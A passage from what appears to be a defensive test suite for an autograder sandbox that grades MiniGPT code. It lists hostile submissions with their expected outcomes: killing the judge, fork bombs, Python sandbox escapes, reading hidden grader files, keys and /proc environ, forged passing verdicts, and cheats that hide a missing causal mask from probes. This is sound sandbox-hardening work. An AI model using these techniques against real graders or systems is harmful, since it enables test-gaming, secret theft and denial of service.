        "itself, SIGTERMs itself, raises KeyboardInterrupt, os.abort()",
        "ref",
        """
import signal as _signal

_exit_calls = [0]


def cross_entropy_loss(logits, targets):
    _os._exit(0)


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    _exit_calls[0] += 1
    pick = _exit_calls[0] % 5
    if pick == 0:
        _sys.exit(0)
    if pick == 1:
        _os.kill(_os.getpid(), _signal.SIGKILL)
    if pick == 2:
        _os.kill(_os.getpid(), _signal.SIGTERM)
    if pick == 3:
        raise KeyboardInterrupt
    _os.abort()
""",
        REFUSED,
        _fails("cross_entropy", GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "exit_tricks_allowed",
        "forge",
        "with allowed code only: cross_entropy_loss raises SystemExit(0), generate raises "
        "KeyboardInterrupt",
        "ref",
        """
def cross_entropy_loss(logits, targets):
    raise SystemExit(0)


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    raise KeyboardInterrupt
""",
        _fails("cross_entropy", GEN_ALL, keep_others=True),
        _fails("cross_entropy", GEN_ALL, keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "kill_the_judge",
        "forge",
        "in generate: SIGKILL to the judge (its parent), to pid 1, to the judge's group, "
        "then kill(-1): every process it may signal",
        "ref",
        """
import signal as _signal


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    for action in (
        lambda: _os.kill(_os.getppid(), _signal.SIGKILL),
        lambda: _os.kill(1, _signal.SIGKILL),
        lambda: _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL),
        lambda: _os.kill(-1, _signal.SIGKILL),
    ):
        try:
            action()
        except OSError:
            pass
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(must_fail=GEN_TRIO, may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "threads_forge_concurrently",
        "forge",
        "a thread started at import writes forged result lines on the answer pipe every "
        "10 ms, concurrently with the worker's real answers",
        "badgen",
        """
import threading as _threading
import time as _time


def _spam():
    line = (b'{"result":{"handle":1,"data":[[0.0]],"ids":[0],"start_after":[0],'
            b'"loss":0.0,"out":1,"identity":[0],"grads":[0.0],"leaves":[],"tokens":[]}}\\n')
    while True:
        _emit(line)
        _time.sleep(0.01)


_threading.Thread(target=_spam, daemon=True).start()
""",
        REFUSED,
        Expect(),
        prelude=PIPES,
    )
)
add(
    _attack(
        "print_fake_verdicts",
        "forge",
        "prints forged Feedback JSON, 'Points 100/100', pytest 'passed' lines and 100 MB "
        "on stdout, at import and in every generate call",
        "badgen",
        """
_FAKE = ('{"schema_version": "1.0", "status": "passed", "gradable": true, '
         '"summary": "FAKE-VERDICT-MARK", "score": 100.0, "max_score": 100.0, "checks": []}')
print(_FAKE)
print("Points 100/100")
print("=" * 30 + " 99 passed in 0.10s " + "=" * 30)
print("PASSED " * 1000)
print("x" * 100_000_000)
_quiet_generate = generate


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    print(_FAKE)
    print("Points 100/100")
    return _quiet_generate(model, start_ids, max_new_tokens, temperature)
""",
        Expect(keep_others=True, absent=("FAKE-VERDICT-MARK",), min_output_bytes=100_000_000),
        Expect(keep_others=True, absent=("FAKE-VERDICT-MARK",), min_output_bytes=100_000_000),
        host_safe=True,
    )
)
add(
    _attack(
        "fork_bomb",
        "resource",
        "in the first generate test: fork until the pids limit, every child forking too",
        "ref",
        """
_bomb_generate = generate


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    while max_new_tokens == 5:
        try:
            _os.fork()
        except OSError:
            pass
    return _bomb_generate(model, start_ids, max_new_tokens, temperature)
""",
        REFUSED,
        Expect(must_fail=frozenset({"generate_output"}), may_fail=GEN_ALL, keep_others=True),
        limits={"call_timeout": 2.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "escaped_cpu_hogs",
        "resource",
        "in generate: forks 6 children that leave the worker's session (setsid) and spin "
        "forever, so killing the worker's group misses them",
        "ref",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    for _ in range(6):
        try:
            if _os.fork() == 0:
                _os.setsid()
                while True:
                    pass
        except OSError:
            pass
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(must_fail=GEN_TRIO, may_fail=GEN_ALL, keep_others=True),
        limits={"wall_timeout": 120.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "escaped_pid_hoarders",
        "resource",
        "in generate: forks sleeping children that leave the worker's session until fork "
        "fails (the pids limit), then exits: the judge must start a new worker",
        "ref",
        """
import signal as _signal


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    while True:
        try:
            if _os.fork() == 0:
                _os.setsid()
                while True:
                    _signal.pause()
        except OSError:
            break
    _os._exit(1)
""",
        REFUSED,
        _fails(GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)

# 3. Escape the policy (policy on) ----------------------------------------------


def _escape(id: str, description: str, trick: str, off: bool = False) -> Attack:
    """An escape: refused, or harmless. With ``off`` also run in Docker without the policy,
    where the trick trivially works and the sandbox alone must keep the secrets."""
    return _attack(
        id,
        "escape",
        description,
        "ref",
        _guarded(trick),
        Expect(refusal_ok=True, may_fail=GEN_ALL),
        Expect(may_fail=GEN_ALL, keep_others=True) if off else None,
        host_safe=True,
        prelude=ESCAPE_PRELUDE,
    )


add(
    _attack(
        "escape_control",
        "escape",
        "control: the escape payload with no escape trick; must pass the policy and score 100",
        "ref",
        "_UNUSED = 0\n",
        Expect(keep_others=True),
        None,
        host_safe=True,
        prelude=ESCAPE_PRELUDE,
    )
)
add(
    _escape(
        "escape_getattr_private",
        "getattr(random, '_os')",
        "_payload(getattr(random, '_os'))",
        off=True,
    )
)
add(_escape("escape_private_attribute", "random._os", "_payload(random._os)"))
add(
    _escape(
        "escape_from_import_private",
        "from random import _os",
        """
from random import _os as _os_module
_payload(_os_module)
""",
        off=True,
    )
)
add(
    _escape(
        "escape_alias_assignment",
        "a name bound to a module by assignment: r = random; r._os",
        """
_alias = random
_payload(_alias._os)
""",
    )
)
add(
    _escape(
        "escape_lambda_default",
        "a module passed as a default argument: (lambda m=random: m._os)()",
        """
_payload((lambda m=random: m._os)())
""",
    )
)
add(
    _escape(
        "escape_star_typing",
        "from typing import *, then get_type_hints evaluates the string annotation "
        "'_payload(random._os) or int'",
        """
from typing import *


def _hinted(x: "_payload(random._os) or int") -> None:
    pass


get_type_hints(_hinted)
""",
        off=True,
    )
)
add(
    _escape(
        "escape_star_operator",
        "from operator import *, then attrgetter('_os')(random)",
        """
from operator import *

_payload(attrgetter("_os")(random))
""",
    )
)
add(
    _escape(
        "escape_match_private",
        "a match class pattern reads a private attribute: case object(_os=m)",
        """
match random:
    case object(_os=_found):
        _payload(_found)
""",
    )
)
add(
    _escape(
        "escape_match_globals",
        "a match class pattern reads __globals__ of random.Random.seed",
        """
match random.Random.seed:
    case object(__globals__=_globals):
        _payload(_globals["_os"])
""",
    )
)
add(
    _escape(
        "escape_singledispatch",
        "functools.singledispatch.register evaluates the string annotation '_payload(random._os)'",
        """
import functools


@functools.singledispatch
def _dispatch(x):
    return x


def _evaluated(x: "_payload(random._os) or int") -> None:
    pass


_dispatch.register(_evaluated)
""",
        off=True,
    )
)
add(
    _escape(
        "escape_format_string",
        "format-string attribute access: '{0._os}'.format(random)",
        """
if "module 'os'" in "{0._os}".format(random):
    ESCAPED = True
""",
    )
)
add(
    _escape(
        "escape_generator_frame_getattr",
        "getattr with literal names: gen.gi_frame.f_builtins['open']",
        """
_gen = (i for i in [0])
_frame = getattr(_gen, "gi_frame")
_payload_open(getattr(_frame, "f_builtins")["open"])
""",
    )
)
add(
    _escape(
        "escape_generator_frame",
        "gen.gi_frame.f_builtins['open'] written out",
        """
_gen = (i for i in [0])
_payload_open(_gen.gi_frame.f_builtins["open"])
""",
        off=True,
    )
)
add(
    _escape(
        "escape_builtins_name",
        "__builtins__['open']",
        """
_b = __builtins__
_payload_open(_b["open"] if isinstance(_b, dict) else _b.open)
""",
        off=True,
    )
)
add(
    _escape(
        "escape_self_dict",
        "self = random; self.__dict__['_os'] (the policy lets self.__dict__ through)",
        """
self = random
_payload(self.__dict__["_os"])
""",
    )
)
add(
    _escape(
        "escape_match_subclasses",
        "match type(__subclasses__=...) on object, then _wrap_close.__init__.__globals__",
        """
match object:
    case type(__subclasses__=_subclasses):
        for _cls in _subclasses():
            if _cls.__name__ == "_wrap_close":
                match _cls.__init__:
                    case object(__globals__=_globals):
                        _payload(_Namespace(_globals))
""",
        off=True,
    )
)
add(
    _escape(
        "escape_classic_subclasses",
        "().__class__.__base__.__subclasses__() to os._wrap_close",
        """
for _cls in ().__class__.__base__.__subclasses__():
    if _cls.__name__ == "_wrap_close":
        _payload(_Namespace(_cls.__init__.__globals__))
""",
    )
)
add(
    _escape(
        "escape_unicode_names",
        "fullwidth identifiers that normalise to open and random._os",
        """
_payload_open(\uff4f\uff50\uff45\uff4e)
_payload(random._\uff4f\uff53)
""",
    )
)
add(
    _escape(
        "escape_decorator_getattr",
        "decorators: functools.partial(getattr, random) applied to a name made by a lambda",
        """
import functools


@functools.partial(getattr, random)
@(lambda f: "_" + "os")
def _decorated():
    pass


_payload(_decorated)
""",
    )
)
add(
    _escape(
        "escape_match_traceback",
        "match patterns walk an exception: __traceback__.tb_frame.f_builtins['open']",
        """
try:
    _zero = 1 / 0
except ZeroDivisionError as _exc:
    match _exc:
        case object(__traceback__=_tb):
            match _tb:
                case object(tb_frame=_frame):
                    match _frame:
                        case object(f_builtins=_builtins):
                            _payload_open(_builtins["open"])
""",
    )
)
add(
    _attack(
        "escape_type3_fake_value",
        "escape",
        "type() with three arguments builds a class named Value in module engine, a "
        "subclass of the real one; MiniGPT.forward returns its instances",
        "ref",
        """
_FakeValue = type("Value", (Value,), {"__module__": "engine", "__eq__": lambda s, o: True})
_real_forward_fake = MiniGPT.forward


def _forward_fake(self, token_ids):
    return [[_FakeValue(z.data) for z in row] for row in _real_forward_fake(self, token_ids)]


MiniGPT.forward = _forward_fake
""",
        _fails("shapes", "positional", "causal_mask", refusal_ok=True),
        None,
        host_safe=True,
    )
)

# 4. Leak the hidden suite, the reference, the judge's /proc entries --------------

add(
    _attack(
        "leak_hidden_files",
        "leak",
        "reads /opt/grader (suite, judge, reference, byte-code, listings) at import and "
        "raises whatever it got in generate, where the message reaches the feedback",
        "badgen",
        """
def _read_hidden():
    found = []
    paths = [
        "/opt/grader/grader/suite/test_causal_mask.py",
        "/opt/grader/grader/suite/suite_support.py",
        "/opt/grader/grader/judge/remote.py",
        "/opt/grader/reference/minigpt.py",
        "/opt/grader/grader/suite/__pycache__/test_causal_mask.cpython-311.pyc",
    ]
    for folder, _dirs, files in _os.walk("/opt/grader"):
        paths.extend(_os.path.join(folder, name) for name in files)
    for path in paths:
        try:
            with open(path, "rb") as handle:
                found.append(path + "=" + handle.read(300).decode("utf-8", "replace"))
        except OSError:
            pass
    for folder in ("/opt/grader", "/opt/grader/grader/suite", "/opt/grader/reference"):
        try:
            found.append(folder + ":" + ",".join(_os.listdir(folder)))
        except OSError:
            pass
    return found


_HIDDEN = _read_hidden()
_hidden_calls = [0]


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    if _HIDDEN:
        _hidden_calls[0] += 1
        raise RuntimeError("LEAK" + "ED: " + _HIDDEN[_hidden_calls[0] % len(_HIDDEN)])
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "leak_judge_proc",
        "leak",
        "reads the judge's /proc entries (cmdline with the judge's config, environ, maps, fd, "
        "cwd, root) and those of every other process not its own, and raises them in "
        "generate, one per call",
        "badgen",
        """
def _uid_of(pid):
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def _read_proc():
    found = []
    pids = {str(_os.getppid()), "1"}
    try:
        pids.update(name for name in _os.listdir("/proc") if name.isdigit())
    except OSError:
        pass
    for pid in sorted(pids):
        if _uid_of(pid) == _os.getuid():
            continue
        for entry in ("cmdline", "environ", "maps", "fd", "cwd", "root", "fdinfo"):
            path = f"/proc/{pid}/{entry}"
            try:
                if entry in ("fd", "cwd", "root", "fdinfo"):
                    text = ",".join(sorted(_os.listdir(path)))
                else:
                    with open(path, "rb") as handle:
                        text = handle.read(4000).replace(b"\\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if entry == "cmdline":
                # A command line is public in /proc; the judge's config must not be in it.
                if "--config" not in text and "{" not in text:
                    continue
                text = text[text.index("--config"):] if "--config" in text else text
            found.append(f"{pid}/{entry}={text}")
    return found


_PROC = _read_proc()
_proc_calls = [0]


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    if _PROC:
        _proc_calls[0] += 1
        raise RuntimeError("LEAK" + "ED: " + _PROC[_proc_calls[0] % len(_PROC)])
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "leak_filesystem_search",
        "leak",
        "walks the container's file system for any readable copy of the suite, the judge "
        "or a key file, and checks its own fds for files of the judge's",
        "badgen",
        """
_WANTED = ("test_causal_mask.py", "suite_support.py", "remote.py", "verdict.py", "suite.ini")


def _search():
    found = []
    for top in ("/opt", "/tmp", "/var", "/srv", "/home", "/root", "/usr/local", "/etc", "/run"):
        for folder, dirs, files in _os.walk(top):
            for name in files:
                interesting = name in _WANTED or name.endswith((".key", ".pem")) or (
                    name == "minigpt.py" and "/submission" not in folder
                )
                if not interesting:
                    continue
                path = _os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        found.append(path + "=" + handle.read(300).decode("utf-8", "replace"))
                except OSError:
                    pass
    for fd in range(64):
        try:
            target = _os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith("/opt/grader"):
            found.append(f"fd {fd} -> {target}")
    return found


_FOUND = None
_search_calls = [0]


def generate(model, start_ids, max_new_tokens, temperature=1.0):
    global _FOUND
    if _FOUND is None:
        _FOUND = _search()
    if _FOUND:
        _search_calls[0] += 1
        raise RuntimeError("LEAK" + "ED: " + _FOUND[_search_calls[0] % len(_FOUND)])
    return list(start_ids) + [0] * max_new_tokens
""",
        REFUSED,
        Expect(may_fail=GEN_ALL, keep_others=True),
        limits={"call_timeout": 10.0},
        prelude=PIPES,
    )
)

# 5. Detect being probed ---------------------------------------------------------

add(
    _attack(
        "probe_prefix_cache_nomask",
        "probe",
        "attention with no causal mask at all, plus a cache: an output row already computed "
        "for the same weights and the same input prefix is returned again. Probes that "
        "perturb a later row and compare earlier rows see no leak",
        "ref",
        """
_PREFIX_CACHE = {}
_real_attention_cached = SelfAttention.forward


def _prefix_cached_attention(self, x, causal=True):
    full = _real_attention_cached(self, x, causal=False)
    if not causal:
        return full
    if len(_PREFIX_CACHE) > 200_000:
        _PREFIX_CACHE.clear()
    weights = hash(tuple(p.data for p in self.parameters()))
    rows = [tuple(v.data for v in row) for row in x]
    out = []
    for i, row in enumerate(full):
        key = (id(self), weights, hash(tuple(rows[: i + 1])))
        remembered = _PREFIX_CACHE.setdefault(key, [v.data for v in row])
        out.append([Value(r, (v,), (1.0,)) for v, r in zip(row, remembered)])
    return out


SelfAttention.forward = _prefix_cached_attention
""",
        _fails("causal_mask"),
        _fails("causal_mask"),
        host_safe=True,
    )
)
# The prefix cache again, kept where a fresh worker would find it: files in every
# folder the worker might write (its own, TMPDIR, /tmp, /dev/shm, /dev/mqueue, /var/tmp),
# or memory every worker forked from the fork server shares. Policy off, the fresh-worker
# comparison must still see the missing mask.
SHARED_PREFIX_CACHE = """
_real_attention_shared = SelfAttention.forward


def _prefix_key(module, x, i):
    weights = tuple(round(p.data, 12) for p in module.parameters())
    rows = tuple(tuple(round(v.data, 12) for v in row) for row in x[: i + 1])
    return "%016x" % (hash((weights, rows)) & 0xFFFFFFFFFFFFFFFF)


def _shared_attention(self, x, causal=True):
    full = _real_attention_shared(self, x, causal=False)
    if not causal:
        return full
    out = []
    for i, row in enumerate(full):
        key = _prefix_key(self, x, i)
        remembered = _recall(key)
        if remembered is None or len(remembered) != len(row):
            remembered = [v.data for v in row]
            _remember(key, remembered)
        out.append([Value(r, (v,), (1.0,)) for v, r in zip(row, remembered)])
    return out


SelfAttention.forward = _shared_attention
"""
add(
    _attack(
        "scratch_files_nomask",
        "probe",
        "attention with no causal mask, plus a prefix cache kept in files (its working "
        "folder, TMPDIR, /tmp, /dev/shm, /dev/mqueue, /var/tmp): a file one fresh worker "
        "writes would answer the next one's comparison (issue 22: scored 100)",
        "nomask",
        """
import json as _cache_json

_FOLDERS = [_os.getcwd(), _os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm",
            "/dev/mqueue", "/var/tmp"]


def _recall(key):
    for folder in _FOLDERS:
        try:
            with open(_os.path.join(folder, "cache-" + key), encoding="utf-8") as handle:
                return _cache_json.load(handle)
        except (OSError, ValueError):
            continue
    return None


def _remember(key, values):
    for folder in _FOLDERS:
        try:
            with open(_os.path.join(folder, "cache-" + key), "w", encoding="utf-8") as handle:
                _cache_json.dump(values, handle)
        except OSError:
            continue
"""
        + SHARED_PREFIX_CACHE,
        REFUSED,
        _fails("causal_mask"),
        prelude=PIPES,
    )
)
add(
    _attack(
        "shared_memory_nomask",
        "probe",
        "attention with no causal mask, plus a prefix cache in memory every worker shares: "
        "a MAP_SHARED mapping, or failing that a pipe, made at import (before the fork "
        "server forks its workers)",
        "nomask",
        """
import mmap as _mmap
import pickle as _pickle

_LOCAL = {}
try:
    _SHARED = _mmap.mmap(-1, 1 << 20)
except OSError:
    _SHARED = None
try:
    _PIPE = _os.pipe()
    _os.set_blocking(_PIPE[0], False)
except OSError:
    _PIPE = None


def _load_shared():
    if _SHARED is not None:
        size = int.from_bytes(_SHARED[:4], "little")
        if size:
            _LOCAL.update(_pickle.loads(_SHARED[4 : 4 + size]))
    if _PIPE is not None:
        try:
            data = _os.read(_PIPE[0], 1 << 20)
            _LOCAL.update(_pickle.loads(data))
            _os.write(_PIPE[1], data)
        except (OSError, ValueError, EOFError, _pickle.UnpicklingError):
            pass


def _recall(key):
    _load_shared()
    return _LOCAL.get(key)


def _remember(key, values):
    _LOCAL[key] = values
    data = _pickle.dumps(_LOCAL)
    if _SHARED is not None and len(data) < (1 << 20) - 4:
        _SHARED[:4] = len(data).to_bytes(4, "little")
        _SHARED[4 : 4 + len(data)] = data
    if _PIPE is not None and len(data) < 60_000:
        try:
            _os.read(_PIPE[0], 1 << 20)
        except OSError:
            pass
        try:
            _os.write(_PIPE[1], data)
        except OSError:
            pass
"""
        + SHARED_PREFIX_CACHE,
        REFUSED,
        _fails("causal_mask"),
        prelude=PIPES,
    )
)
add(
    _attack(
        "probe_seed_oracle_nomask",
        "probe",
        "attention with no causal mask, except for the objects the causal tests build: it "
        "recomputes the grading seed (HMAC of its own bytes keyed with the suite hash that "
        "every Feedback prints) and recognises them by random's state in __init__",
        "ref",
        """
import hashlib as _hashlib
import hmac as _hmac

_SUITE_HASH = "@@SUITE_HASH@@"
_PROBE_NAMES = ("causal.attention", "causal.model")


def _grading_seed():
    with open(_arg("--submission"), "rb") as handle:
        raw = handle.read()
    return _hmac.new(_SUITE_HASH.encode(), raw, _hashlib.sha256).hexdigest()[:32]


_SEED = _grading_seed()
_PROBE_STATES = [
    random.Random(random.Random(f"{_SEED}/{name}").randrange(2**31)).getstate()
    for name in _PROBE_NAMES
]
_building_probe = [False]
_real_sa_init = SelfAttention.__init__
_real_sa_forward = SelfAttention.forward
_real_gpt_init = MiniGPT.__init__


def _sa_init(self, embed_dim):
    probed = _building_probe[0] or random.getstate() in _PROBE_STATES
    _real_sa_init(self, embed_dim)
    self.masked = probed


def _sa_forward(self, x, causal=True):
    return _real_sa_forward(self, x, causal=causal and self.masked)


def _gpt_init(self, *args, **kwargs):
    _building_probe[0] = random.getstate() in _PROBE_STATES
    try:
        _real_gpt_init(self, *args, **kwargs)
    finally:
        _building_probe[0] = False


SelfAttention.__init__ = _sa_init
SelfAttention.forward = _sa_forward
MiniGPT.__init__ = _gpt_init
""",
        REFUSED,
        _fails("causal_mask"),
        prelude=PIPES,
    )
)
add(
    _attack(
        "probe_grader_sizes_nomask",
        "probe",
        "applies the causal mask only at the sizes the grader uses (embed_dim 4 or 8, "
        "which the feedback's own shape messages show): every other model sees the future",
        "ref",
        """
_real_attention_sized = SelfAttention.forward


def _sized_attention(self, x, causal=True):
    return _real_attention_sized(self, x, causal=causal and self.embed_dim in (4, 8))


SelfAttention.forward = _sized_attention
""",
        _fails("causal_mask"),
        _fails("causal_mask"),
        host_safe=True,
    )
)
add(
    _attack(
        "probe_training_target_memory",
        "probe",
        "a model that cannot learn (logits cut from the graph) reads dL/dlogits from its "
        "previous output's .grad after the judge's backward, infers the targets and adds a "
        "growing bonus to them on the next call with the same input",
        "cutgrad",
        """
_LAST_OUTPUT = {}
_BOOST = {}
_real_forward_memory = MiniGPT.forward


def _remembering_forward(self, token_ids):
    logits = _real_forward_memory(self, token_ids)
    key = (id(self), tuple(token_ids))
    previous = _LAST_OUTPUT.get(key)
    if previous is not None:
        targets = []
        for row in previous:
            grads = [v.grad for v in row]
            targets.append(grads.index(min(grads)) if min(grads) < 0 else -1)
        if max(targets) >= 0:
            _BOOST[key] = _BOOST.get(key, 0.0) + 0.5
        boost = _BOOST.get(key, 0.0)
        logits = [
            [z + boost if k == target else z for k, z in enumerate(row)]
            for row, target in zip(logits, targets)
        ]
    _LAST_OUTPUT[key] = logits
    return logits


MiniGPT.forward = _remembering_forward
""",
        _fails("training"),
        _fails("training"),
        host_safe=True,
    )
)
add(
    _attack(
        "probe_fake_graph_blocks",
        "probe",
        "blocks applied side by side (only the last one reaches the logits), with every "
        "parameter attached to each logit as a child of local gradient 0: the graph the "
        "judge inspects reaches every block, the values and gradients do not",
        "sidebyside",
        """
_real_forward_graph = MiniGPT.forward


def _forward_fake_graph(self, token_ids):
    out = _real_forward_graph(self, token_ids)
    params = tuple(self.parameters())
    zeros = (0.0,) * len(params)
    return [[Value(z.data, (z, *params), (1.0, *zeros)) for z in row] for row in out]


MiniGPT.forward = _forward_fake_graph
""",
        _fails("blocks"),
        _fails("blocks"),
        host_safe=True,
    )
)

# 6. Resources -------------------------------------------------------------------

add(
    _attack(
        "memory_blowup_in_generate",
        "resource",
        "generate allocates 50 MB blocks until memory runs out",
        "ref",
        """
def generate(model, start_ids, max_new_tokens, temperature=1.0):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
""",
        _fails(GEN_ALL, keep_others=True),
        _fails(GEN_ALL, keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "infinite_loop_in_cross_entropy",
        "resource",
        "cross_entropy_loss never returns",
        "ref",
        """
def cross_entropy_loss(logits, targets):
    while True:
        pass
""",
        _fails("cross_entropy", keep_others=True),
        None,
        host_safe=True,
        limits={"call_timeout": 2.0},
    )
)
add(
    _attack(
        "deep_recursion_in_cross_entropy",
        "resource",
        "cross_entropy_loss recurses without end (RecursionError)",
        "ref",
        """
def _down(n):
    return _down(n + 1) + 1


def cross_entropy_loss(logits, targets):
    return _down(0)
""",
        _fails("cross_entropy", keep_others=True),
        _fails("cross_entropy", keep_others=True),
        host_safe=True,
    )
)
add(
    _attack(
        "sleep_in_cross_entropy",
        "resource",
        "cross_entropy_loss sleeps (no CPU time used: only the wall-clock backstop sees it)",
        "ref",
        """
import time as _time


def cross_entropy_loss(logits, targets):
    _time.sleep(1_000_000)
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        limits={"call_timeout": 1.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "cpu_in_child_process",
        "resource",
        "cross_entropy_loss forks a child that spins and waits for it: the CPU time is the "
        "child's, not the worker's",
        "ref",
        """
def cross_entropy_loss(logits, targets):
    child = _os.fork()
    if child == 0:
        while True:
            pass
    _os.waitpid(child, 0)
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        limits={"call_timeout": 1.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "cpu_in_setsid_grandchild",
        "resource",
        "cross_entropy_loss double-forks a grandchild that leaves the worker's session "
        "(setsid) and spins for 4 CPU seconds, then answers once it is gone: the CPU is "
        "neither the worker's nor its group's (issue 22: 14 CPU s passed a 10 s budget)",
        "ref",
        """
import time as _time

_real_loss_grandchild = cross_entropy_loss


def cross_entropy_loss(logits, targets):
    child = _os.fork()
    if child == 0:
        if _os.fork() == 0:
            _os.setsid()
            end = _time.process_time() + 4.0
            while _time.process_time() < end:
                pass
        _os._exit(0)
    _os.waitpid(child, 0)
    while _session_leaders_after(child):
        _time.sleep(0.05)
    return _real_loss_grandchild(logits, targets)


def _session_leaders_after(first):
    found = []
    for entry in _os.listdir("/proc"):
        if entry.isdigit() and int(entry) > first:
            try:
                if _os.getsid(int(entry)) == int(entry):
                    found.append(entry)
            except OSError:
                pass
    return found
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        limits={"call_timeout": 1.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "sigstop_in_cross_entropy",
        "resource",
        "cross_entropy_loss stops its own process group (SIGSTOP): it uses no CPU, so only "
        "the wall-clock backstop would end the wait (issue 22: one file held a slot 442 s)",
        "ref",
        """
import signal as _signal


def cross_entropy_loss(logits, targets):
    _os.kill(0, _signal.SIGSTOP)
    return Value(0.0)
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True, max_seconds=60.0),
        limits={"call_timeout": 10.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "sigstop_at_import",
        "resource",
        "stops itself (SIGSTOP to its own group) while being imported",
        "ref",
        """
import signal as _signal

_os.kill(0, _signal.SIGSTOP)
""",
        REFUSED,
        Expect(status=frozenset({"error"}), error_kind="timeout", max_score=0.0, max_seconds=60.0),
        limits={"import_timeout": 10.0},
        prelude=PIPES,
    )
)
add(
    _attack(
        "memory_in_socket_buffers",
        "resource",
        "in cross_entropy_loss: fills unix-socket buffers (1.4 GB asked), memory charged to "
        "the container that no process's size shows (issue 22: the OOM killer took the "
        "judge, exit 3)",
        "ref",
        """
import socket as _socket


def cross_entropy_loss(logits, targets):
    held = []
    chunk = b"x" * 65536
    for _ in range(20_000):
        a, b = _socket.socketpair()
        a.setblocking(False)
        held.append((a, b))
        try:
            while True:
                a.send(chunk)
        except BlockingIOError:
            pass
    return Value(0.0)
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "memory_oom_in_processes",
        "resource",
        "in cross_entropy_loss: four processes of 400 MB each (every one under the worker's "
        "own limit, together past the container's): the OOM killer must take one of them, "
        "never the judge, and the request fails as the student's memory failure",
        "ref",
        """
import signal as _signal


def cross_entropy_loss(logits, targets):
    for _ in range(3):
        if _os.fork() == 0:
            hoard = bytearray(400_000_000)
            while True:
                _signal.pause()
    hoard = bytearray(400_000_000)
    return Value(float(len(hoard)))
""",
        REFUSED,
        _fails("cross_entropy", keep_others=True),
        prelude=PIPES,
    )
)
add(
    _attack(
        "oom_score_lowered",
        "resource",
        "lowers its own oom_score_adj (the worker's is 1000) and its fork server's, so that "
        "the OOM killer would pick the judge; breaks generate if any write got through",
        "ref",
        """
_lowered = []
for _pid in ("self", str(_os.getppid())):
    for _value in ("0", "-1000"):
        try:
            with open(f"/proc/{_pid}/oom_score_adj", "w") as _handle:
                _handle.write(_value)
            _lowered.append(_pid + ":" + _value)
        except OSError:
            pass
with open("/proc/self/oom_score_adj") as _handle:
    if _handle.read().strip() != "1000":
        _lowered.append("not 1000")
if _lowered:
    def generate(model, start_ids, max_new_tokens, temperature=1.0):
        raise RuntimeError("oom_score_adj lowered: " + ", ".join(_lowered))
""",
        REFUSED,
        Expect(min_score=100.0),
        prelude=PIPES,
    )
)
add(
    _attack(
        "syscalls_a_model_never_needs",
        "resource",
        "at import, through ctypes: sockets, ptrace, process_vm_readv of its fork server, "
        "unshare and clone with namespaces, setns, mount, keyctl, bpf, userfaultfd, "
        "perf_event_open, io_uring, memfd, a MAP_SHARED mapping, an eventfd, SysV shared "
        "memory, kill of another process, creating a file, exec; breaks generate with the "
        "list of those that worked",
        "ref",
        """
import ctypes as _ctypes
import mmap as _mmap
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_NR = {"socket": 41, "ptrace": 101, "process_vm_readv": 310, "unshare": 272, "setns": 308,
       "mount": 165, "keyctl": 250, "bpf": 321, "userfaultfd": 323, "perf_event_open": 298,
       "io_uring_setup": 425, "memfd_create": 319, "eventfd2": 290, "shmget": 29,
       "clone": 56, "mkdir": 83}
_buffer = _ctypes.create_string_buffer(256)
_iov = (_ctypes.c_void_p * 2)(_ctypes.addressof(_buffer), 8)
_CALLS = {
    "socket": (2, 1, 0),
    "ptrace": (0, 0, 0, 0),  # PTRACE_TRACEME
    "process_vm_readv": (_os.getppid(), _ctypes.addressof(_iov), 1, _ctypes.addressof(_iov), 1, 0),
    "unshare": (0x10000000,),  # CLONE_NEWUSER
    "setns": (0, 0),
    "mount": (b"none", b"/tmp", b"tmpfs", 0, 0),
    "keyctl": (0, 0, 0),  # KEYCTL_GET_KEYRING_ID
    "bpf": (0, 0, 0),
    "userfaultfd": (0,),
    "perf_event_open": (_ctypes.addressof(_buffer), 0, -1, -1, 0),
    "io_uring_setup": (1, _ctypes.addressof(_buffer)),
    "memfd_create": (b"x", 0),
    "eventfd2": (0, 0),
    "shmget": (0, 4096, 0o1600),  # IPC_PRIVATE, IPC_CREAT
